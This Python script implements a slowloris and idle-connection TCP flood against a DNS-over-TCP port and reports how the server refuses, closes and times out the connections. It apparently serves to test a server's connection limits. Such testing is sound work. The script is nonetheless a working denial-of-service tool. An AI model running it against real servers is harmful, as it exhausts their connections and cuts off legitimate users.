#!/usr/bin/python3
"""tcpflood.py -- a hostile TCP client: slowloris and idle connections.

    tcpflood.py ADDR PORT SRC SLOW IDLE SECONDS REOPEN

Opens SLOW connections from source address SRC that each send one byte of a
DNS query per second, and IDLE connections that send nothing, and keeps them
for SECONDS. REOPEN=1: a connection the server closes is opened again (as an
attacker holding the cap would), at most 20 reopens per second per original
connection budget (bounded: 10 * (SLOW + IDLE) in all). Prints one line:
    opened=N refused=N closed_slow=N closed_idle=N max_open=N slow_life=MED/MAX
refused: closed by the server within 0.5 s of connecting without having been
sent anything; slow_life: the median and the longest time in seconds from a
slow connection's first byte to the server closing it, over those that
lived 0.5 s or more (-1/-1 if none).
Standard library only; every wait is bounded by SECONDS.
"""
import errno
import resource
import selectors
import socket
import struct
import sys
import time


def query_bytes():
    msg = struct.pack("!HHHHHH", 4242, 0, 1, 0, 0, 0)
    for label in ("www", "t", "test"):
        msg += bytes([len(label)]) + label.encode()
    msg += b"\0" + struct.pack("!HH", 1, 1)
    return struct.pack("!H", len(msg)) + msg


QUERY = query_bytes()


class Conn:
    __slots__ = ("sock", "slow", "opened", "first", "sent")

    def __init__(self, sock, slow, now):
        self.sock, self.slow, self.opened, self.first, self.sent = sock, slow, now, None, 0


def open_conn(addr, port, src):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((src, 0))
    s.settimeout(2.0)
    s.connect((addr, port))
    s.setblocking(False)
    return s


def main(argv):
    addr, port, src = argv[1], int(argv[2]), argv[3]
    nslow, nidle, secs, reopen = int(argv[4]), int(argv[5]), float(argv[6]), argv[7] == "1"
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, nslow + nidle + 256)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    sel = selectors.DefaultSelector()
    start = time.monotonic()
    stats = dict(opened=0, refused=0, closed_slow=0, closed_idle=0, max_open=0)
    budget = 10 * (nslow + nidle)
    slow_after = []
    conns = {}

    def add(slow):
        try:
            s = open_conn(addr, port, src)
        except OSError:
            return False
        c = Conn(s, slow, time.monotonic())
        conns[s.fileno()] = c
        sel.register(s, selectors.EVENT_READ, c)
        stats["opened"] += 1
        return True

    for i in range(nslow + nidle):
        if time.monotonic() - start > secs:
            break
        add(i < nslow)
    next_tick = time.monotonic()
    while time.monotonic() - start < secs:
        now = time.monotonic()
        if now >= next_tick:
            # one byte per second on every slow connection
            for c in list(conns.values()):
                if c.slow and c.sent < len(QUERY) - 1:
                    try:
                        c.sock.send(QUERY[c.sent:c.sent + 1])
                        if c.first is None:
                            c.first = now
                        c.sent += 1
                    except OSError:
                        pass
            next_tick = now + 1.0
        stats["max_open"] = max(stats["max_open"], len(conns))
        for key, _ in sel.select(timeout=max(0.0, min(0.2, next_tick - time.monotonic()))):
            c = key.data
            try:
                data = c.sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                continue
            sel.unregister(c.sock)
            del conns[c.sock.fileno()]
            c.sock.close()
            t = time.monotonic()
            if c.first is None and t - c.opened < 0.5:
                stats["refused"] += 1
            elif c.slow:
                stats["closed_slow"] += 1
                if c.first is not None and t - c.first >= 0.5:
                    slow_after.append(t - c.first)
            else:
                stats["closed_idle"] += 1
            if reopen and budget > 0:
                budget -= 1
                add(c.slow)
    for c in conns.values():
        c.sock.close()
    slow_after.sort()
    med = slow_after[len(slow_after) // 2] if slow_after else -1
    top = slow_after[-1] if slow_after else -1
    print(" ".join("%s=%d" % kv for kv in stats.items()) + " slow_life=%.1f/%.1f" % (med, top))


if __name__ == "__main__":
    main(sys.argv)
